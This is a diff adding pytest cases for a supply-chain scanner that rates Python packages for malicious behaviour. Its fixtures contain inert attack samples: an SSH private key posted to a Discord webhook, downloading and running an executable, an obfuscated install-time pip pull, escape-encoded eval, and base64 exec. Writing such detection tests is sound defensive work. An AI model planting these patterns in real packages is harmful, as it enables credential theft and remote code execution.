@@ -1,0 +1,135 @@
+"""Threats decide the risk: one powerful API alone is information, chains, places and disguises
+are not. Each case is a small package built here (inert code, reserved addresses only)."""
+
+from __future__ import annotations
+
+import json
+
+from app.cli import main
+from app.core.archive import open_artifact
+from app.core.capabilities.scan import scan_artifact
+from tests.core.archive.fixtures import make_sdist, make_wheel
+
+
+def scan(path):
+    return scan_artifact(open_artifact(path))
+
+
+def threat_ids(result) -> set[str]:
+    return {t.id for t in result.threats}
+
+
+def test_a_powerful_api_alone_is_information_not_a_threat(tmp_path):
+    """What popular projects do every day: load their own native library at import, unpickle
+    a cache, spawn git, read cloud credentials in a function, grab the clipboard on request."""
+    code = b"""import ctypes, pickle, subprocess, os, pyperclip
+_lib = ctypes.CDLL(None)
+
+def load(path):
+    with open(path, "rb") as f:
+        return pickle.loads(f.read())
+
+def version():
+    return subprocess.check_output(["git", "describe"])
+
+def credentials():
+    with open(os.path.expanduser("~/.aws/credentials")) as f:
+        return f.read()
+
+def paste():
+    return pyperclip.paste()
+"""
+    result = scan(make_wheel(tmp_path, name="toolkit", files={"toolkit/__init__.py": code}))
+    assert result.risk.level in ("low", "medium"), [t.to_json() for t in result.threats]
+    assert not result.threats
+    assert all(h.severity in ("none", "low", "medium") for h in result.findings)
+    assert {"exec.native_load", "exec.deserialize", "cred.secret_files"} <= {
+        h.capability for h in result.findings
+    }
+
+
+def test_download_then_run_is_a_chain_even_inside_a_function(tmp_path):
+    code = b"""import os, requests
+
+def init():
+    r = requests.get("http://192.0.2.10/update.exe")
+    open("update.exe", "wb").write(r.content)
+    os.system("update.exe")
+"""
+    result = scan(make_wheel(tmp_path, name="catpics", files={"catpics/cat.py": code}))
+    assert result.risk.level in ("high", "critical")
+    chain = next(t for t in result.threats if t.id == "chain.download_execute")
+    assert {s.capability for s in chain.steps} >= {"net.download_to_disk", "process.spawn"}
+    assert all(s.path == "catpics/cat.py" for s in chain.steps)
+
+
+def test_pip_main_in_setup_with_names_built_from_builtins_is_a_place_and_a_disguise(tmp_path):
+    """The campaign that slipped through: every string spelled through a builtin whose name
+    is itself picked out of other names, and pip.main pulling a second package at install."""
+    setup = b"""import sys
+from setuptools import setup
+_c = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0])
+if sys.argv[1] in ["install", "egg_info"]:
+    import pip
+    pip.main(["install", "".join(map(_c, [104, 101, 108, 112, 101, 114]))])
+setup(name="helpr", version="0.1")
+"""
+    result = scan(make_sdist(tmp_path, name="helpr", version="0.1", files={"setup.py": setup}))
+    assert result.risk.level in ("high", "critical")
+    ids = threat_ids(result)
+    assert "place.dependency_pull" in ids
+    assert "disguise.obfuscation" in ids
+
+
+def test_text_written_in_escapes_is_a_disguise(tmp_path):
+    code = b'_e = eval("\\145\\166\\141\\x6c")\n_c = _e("\\x63\\x6f\\x6d\\160\\151\\154\\x65")\n'
+    result = scan(make_wheel(tmp_path, name="grab", files={"grab/__init__.py": code}))
+    assert "disguise.obfuscation" in threat_ids(result)
+    hit = next(h for h in result.findings if h.rule == "txt.escaped_text")
+    assert "compile" in hit.explanation and hit.line == 2
+
+
+def test_escaped_binary_data_is_not_a_disguise(tmp_path):
+    code = b'MAGIC = b"\\x89\\x50\\x4e\\x47\\x0d\\x0a\\x1a\\x0a"\nRED = "\\x1b\\x5b\\x33\\x31\\x6d\\x1b"\n'
+    result = scan(make_wheel(tmp_path, name="png", files={"png/__init__.py": code}))
+    assert not any(h.rule == "txt.escaped_text" for h in result.findings)
+    assert result.risk.level in ("none", "low")
+
+
+def test_stolen_secrets_to_a_webhook_are_critical_and_explained(tmp_path):
+    code = b"""import os, requests
+data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+requests.post("https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGH", data=data)
+"""
+    result = scan(make_wheel(tmp_path, name="stealer", files={"stealer/__init__.py": code}))
+    assert result.risk.level == "critical"
+    top = result.threats[0]
+    assert top.severity == "critical"
+    assert top.id == "chain.exfiltration"
+    assert {s.capability for s in top.steps} >= {"cred.secret_files", "net.exfil_endpoint"}
+
+
+def test_import_time_network_call_is_a_place(tmp_path):
+    code = b'import urllib.request\nurllib.request.urlopen("http://198.51.100.4/ping")\n'
+    result = scan(make_wheel(tmp_path, name="pinger", files={"pinger/__init__.py": code}))
+    assert "place.import_time" in threat_ids(result)
+    called_only = b'import urllib.request\ndef ping():\n    urllib.request.urlopen("http://198.51.100.4/p")\n'
+    (tmp_path / "q").mkdir()
+    quiet = scan(make_wheel(tmp_path / "q", name="pinger", files={"pinger/__init__.py": called_only}))
+    assert not quiet.threats and quiet.risk.level in ("low", "medium")
+
+
+def test_scan_json_carries_threats_with_steps(tmp_path, capsys):
+    code = b'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'
+    wheel = make_wheel(tmp_path, name="dec", files={"dec/__init__.py": code})
+    assert main(["scan", str(wheel), "--json", "--no-cache"]) == 0
+    doc = json.loads(capsys.readouterr().out)
+    threat = doc["threats"][0]
+    assert threat["id"] == "chain.decode_exec" and threat["severity"] == "critical"
+    assert threat["explanation"]
+    assert threat["steps"][0] == {
+        "capability": "exec.decode_then_exec",
+        "path": "dec/__init__.py",
+        "line": 2,
+    }
+    assert doc["risk"]["level"] == "critical"
